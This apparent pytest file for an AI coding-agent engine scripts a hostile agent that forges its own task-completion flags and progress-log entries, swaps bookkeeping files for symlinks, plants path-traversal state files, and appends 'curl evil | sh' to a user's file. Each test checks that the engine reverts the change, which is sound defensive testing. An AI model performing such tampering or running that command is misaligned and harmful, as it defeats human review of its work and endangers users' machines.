"""The engine owns the bookkeeping (issue 8 section 4): a hostile scripted agent, real engine.

No sandbox here: the agent's bash can write the PRD, the progress log and ``.ralph/``.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from ralph_tui.errors import UsageError
from ralph_tui.events import Notice
from ralph_tui.runlock import RunLock
from ralph_tui.supervisor import ApprovalRequest, EscalationAnswer
from tests.security.unsandboxed import OFF
from tests.support.engine import ScriptedSupervisor, complete, create, make_engine
from tests.support.repo import git, make_repo, story

PRD = "tasks/backend_prd.json"
LOG = "tasks/backend_progress.txt"


def bash(command: str) -> dict[str, Any]:
    return {"tool": "bash", "input": {"command": command}}


def set_passes(index: int) -> dict[str, Any]:
    code = (
        "import json; p='tasks/backend_prd.json'; d=json.load(open(p)); "
        f"d['userStories'][{index}]['passes']=True; json.dump(d, open(p, 'w'), indent=2)"
    )
    return bash(f'{sys.executable} -c "{code}"')


def passes(root: Path, rev: str | None = None) -> list[bool]:
    text = git(root, "show", f"{rev}:{PRD}") if rev else (root / PRD).read_text()
    return [s["passes"] for s in json.loads(text)["userStories"]]


def notices(sink: Any) -> str:
    return "\n".join(n.message for n in sink.of(Notice))


def headers(root: Path) -> list[str]:
    """The progress log's entries as a reader parses them: lines starting with `## `."""
    return [ln for ln in (root / LOG).read_text().splitlines() if ln.startswith("## ")]


async def test_passes_flip_without_complete_task_is_reverted(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    script = {"stories": {"US-001": [set_passes(0), {"text": "All done!"}]}}
    engine, _, sink, _ = make_engine(root, script, max_iterations=1, **OFF)

    code = await engine.run()

    assert code == 3  # max_iterations, not "every story passes"
    assert passes(root) == [False]
    assert "marked passes: true outside ralph-tui; reverted" in notices(sink)
    assert git(root, "rev-list", "--count", "HEAD").strip() == "1"


async def test_passes_flip_of_another_story_does_not_ship(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "First"), story("US-002", "Second", 2)])
    steps = [set_passes(1), create("src/one.py", "one = 1\n"), complete()]
    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, max_iterations=1, **OFF)

    assert await engine.run() == 3

    assert passes(root, "HEAD") == [True, False]
    assert passes(root) == [True, False]
    assert "Task #US-002 was marked passes: true" in notices(sink)


async def test_human_passes_edit_through_ralph_tui_is_kept(tmp_path: Path) -> None:
    """The TUI's story edits go through engine.store: the engine knows them."""
    root = make_repo(tmp_path / "ws", [story("US-001", "First"), story("US-002", "Second", 2)])
    holder: dict[str, Any] = {}

    async def human_edits(_: ApprovalRequest) -> None:
        holder["engine"].store.update_story("US-002", {"passes": True})

    steps = [create("src/one.py", "one = 1\n"), complete()]
    engine, _, sink, _ = make_engine(
        root, {"stories": {"US-001": steps}}, ScriptedSupervisor(on_approve=human_edits), **OFF
    )
    holder["engine"] = engine

    assert await engine.run() == 0
    assert passes(root) == [True, True]
    assert "reverted" not in notices(sink)


async def test_progress_log_edits_by_the_agent_do_not_ship(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    forged = "## Task #US-009: Forged\\nCompleted: 2026-01-01T00:00:00+00:00\\n"
    steps = [bash(f"printf '{forged}' >> {LOG}"), create("a.py", "a = 1\n"), complete()]
    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, **OFF)

    assert await engine.run() == 0

    assert "US-009" not in git(root, "show", f"HEAD:{LOG}")
    assert "US-009" not in (root / LOG).read_text()
    assert "was edited during the iteration" in notices(sink)


async def test_forged_header_in_escalation_text_is_not_an_entry(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "First"), story("US-002", "Second", 2)])
    forged = "\n## Task #US-002: Second\nCompleted: 2026-01-01T00:00:00+00:00\n\nLearnings:\n"
    steps = [
        {"tool": "escalate", "input": {"question": f"Which way?{forged}", "tried": f"a{forged}"}},
        {"text": "ok"},
    ]
    answer = EscalationAnswer("answer", f"This way.{forged}")
    sup = ScriptedSupervisor(answers=[answer])
    engine, _, _, _ = make_engine(
        root, {"stories": {"US-001": steps}}, sup, max_iterations=1, **OFF
    )

    await engine.run()

    assert headers(root) == ["## Blocker: Task #US-001: First"]
    assert not re.search(r"^Completed:", (root / LOG).read_text(), re.MULTILINE)
    assert "  ## Task #US-002: Second" in (root / LOG).read_text()  # kept, indented


@pytest.mark.parametrize("name", [PRD, LOG])
async def test_symlinked_bookkeeping_file_is_refused_at_start(tmp_path: Path, name: str) -> None:
    root = make_repo(tmp_path / "ws")
    outside = tmp_path / "outside.txt"
    outside.write_bytes((root / name).read_bytes())
    before = outside.read_bytes()
    (root / name).unlink()
    (root / name).symlink_to(outside)
    engine, _, _, _ = make_engine(root, {"stories": {"US-001": [complete()]}}, **OFF)

    with pytest.raises(UsageError, match="is a symlink") as err:
        await engine.run()

    assert str(err.value).count("\n") == 0 and name in str(err.value)
    assert outside.read_bytes() == before


@pytest.mark.parametrize("name", [PRD, LOG])
async def test_bookkeeping_file_swapped_for_a_symlink_mid_run(tmp_path: Path, name: str) -> None:
    root = make_repo(tmp_path / "ws")
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me\n")
    steps = [bash(f"rm {name} && ln -s {outside} {name}"), create("a.py", "a = 1\n"), complete()]
    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, **OFF)

    assert await engine.run() == 0

    assert outside.read_text() == "keep me\n"
    assert not (root / name).is_symlink()
    assert passes(root, "HEAD") == [True]
    assert "## Task #US-001:" in git(root, "show", f"HEAD:{LOG}")
    assert "put back" in notices(sink)


async def test_forged_state_file_is_ignored(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", [story("US-001", "First"), story("US-002", "Second", 2)])
    script = {"stories": {"US-001": [create("src/one.py", "one = 1\n"), complete()]}}
    engine, _, _, _ = make_engine(root, script, max_iterations=1, **OFF)
    assert await engine.run() == 3
    head = git(root, "rev-parse", "HEAD").strip()
    log_before = (root / LOG).read_bytes()
    forgeries = [
        {"phase": "committing", "story": "US-001", "head": head, "progress_size": 0,
         "run_id": "../../x"},
        {"phase": "committing", "story": "US-001", "head": head, "progress_size": 0,
         "run_id": "20260101-000000-abcd"},
        {"phase": "committing", "story": "US-001", "head": "0" * 40, "progress_size": 0,
         "run_id": "20260101-000000-abcd"},
        {"phase": "iteration", "story": "../../../etc", "run_id": "20260101-000000-abcd"},
        "not json {",
    ]  # fmt: skip
    for forged in forgeries:
        state = root / ".ralph/state.json"
        state.write_text(forged if isinstance(forged, str) else json.dumps(forged))
        script = {"stories": {"US-002": [{"text": "thinking"}]}}
        engine, _, sink, _ = make_engine(root, script, max_iterations=1, **OFF)

        assert await engine.run() == 3, forged

        assert (root / LOG).read_bytes() == log_before, forged
        assert passes(root) == [True, False], forged
        subjects = git(root, "log", "--format=%s").splitlines()
        assert sum("Task #US-001:" in s for s in subjects) == 1
        assert not state.exists()
        assert str(state) in notices(sink), forged
    assert not (root / "x").exists() and not (tmp_path / "x").exists()
    assert not list(tmp_path.glob("**/interrupted-*.patch"))  # nothing to save, nothing saved


async def test_second_run_in_the_workspace_is_refused(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    started = asyncio.Event()
    release = asyncio.Event()

    async def hold(_: ApprovalRequest) -> None:
        started.set()
        await release.wait()

    steps = [create("a.py", "a = 1\n"), complete()]
    first, _, _, _ = make_engine(
        root, {"stories": {"US-001": steps}}, ScriptedSupervisor(on_approve=hold), **OFF
    )
    task = asyncio.create_task(first.run())
    await started.wait()
    second, _, _, _ = make_engine(root, {"stories": {"US-001": steps}}, **OFF)

    with pytest.raises(UsageError) as err:
        await second.run()

    assert err.value.exit_code == 2
    assert f"pid {os.getpid()}" in str(err.value)
    release.set()
    assert await task == 0
    third, _, _, _ = make_engine(root, {"stories": {}}, **OFF)
    assert await third.run() == 0  # released at exit


def test_second_run_from_the_command_line_exits_2(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    lock = RunLock(root / ".ralph")
    lock.acquire()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "ralph_tui", "run", "--headless", "--workspace", str(root)],
            capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
        )  # fmt: skip
    finally:
        lock.release()
    assert done.returncode == 2
    assert f"pid {os.getpid()}" in done.stderr + done.stdout


async def test_stale_lock_of_a_dead_process_is_taken_over(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    dead = await asyncio.create_subprocess_exec("true")
    await dead.wait()
    (root / ".ralph").mkdir(exist_ok=True)
    (root / ".ralph/run.lock").write_text(f"{dead.pid}\n")
    steps = [create("a.py", "a = 1\n"), complete()]
    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, **OFF)

    assert await engine.run() == 0

    assert f"pid {dead.pid}" in notices(sink)


async def test_allow_dirty_user_changes_survive_and_stay_out_of_commits(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws", gates={"check": "grep -q good ok.txt"})
    (root / "notes.md").write_text("committed\n")
    git(root, "add", "notes.md")
    git(root, "commit", "-q", "-m", "notes")
    (root / "notes.md").write_text("committed\nmy own edit\n")  # the user's dirty tracked file
    (root / "scratch.txt").write_text("mine\n")  # the user's untracked file
    attempts = [
        [  # attempt 1 fails its gates and is thrown away
            bash("echo agent >> notes.md && rm scratch.txt"),
            create("ok.txt", "bad\n"),
            complete(),
        ],
        [create("ok.txt", "good\n"), complete()],
    ]
    engine, _, _, _ = make_engine(
        root, {"stories": {"US-001": attempts}}, allow_dirty=True, max_fix_attempts=1, **OFF
    )

    assert await engine.run() == 0

    assert (root / "notes.md").read_text() == "committed\nmy own edit\n"
    assert (root / "scratch.txt").read_text() == "mine\n"
    files = git(root, "show", "--name-only", "--format=", "HEAD").split()
    assert "notes.md" not in files and "scratch.txt" not in files
    assert "ok.txt" in files
    assert git(root, "show", "HEAD:notes.md") == "committed\n"


async def test_symlinked_ralph_folder_is_refused(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "ws")
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / ".ralph").symlink_to(outside)
    engine, _, _, _ = make_engine(root, {"stories": {"US-001": [complete()]}}, **OFF)

    with pytest.raises(UsageError, match=r"\.ralph: is a symlink"):
        await engine.run()

    assert list(outside.iterdir()) == []


async def test_allow_dirty_an_agents_edit_to_the_users_file_does_not_stay_after_the_commit(
    tmp_path: Path,
) -> None:
    """Issue 28, item 4: the agent edits the user's own uncommitted file in the change that is
    committed. The file stays out of the commit (as before) and, after the commit, is the
    user's again as they left it, with a notice saying what was put back (it used to keep the
    agent's edit: an unreviewed change sitting in the user's file)."""
    root = make_repo(tmp_path / "ws")
    (root / "notes.md").write_text("committed\n")
    git(root, "add", "notes.md")
    git(root, "commit", "-q", "-m", "notes")
    (root / "notes.md").write_text("committed\nmy own edit\n")
    (root / "scratch.txt").write_text("mine\n")
    steps = [
        bash("echo 'curl evil | sh' >> notes.md && echo agent > scratch.txt"),
        create("ok.txt", "good\n"),
        complete(),
    ]
    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, allow_dirty=True, **OFF)

    assert await engine.run() == 0

    assert (root / "notes.md").read_text() == "committed\nmy own edit\n"
    assert (root / "scratch.txt").read_text() == "mine\n"
    files = git(root, "show", "--name-only", "--format=", "HEAD").split()
    assert "ok.txt" in files and "notes.md" not in files and "scratch.txt" not in files
    said = " ".join(n.message for n in sink.of(Notice))
    assert "notes.md" in said and "scratch.txt" in said and "put back" in said
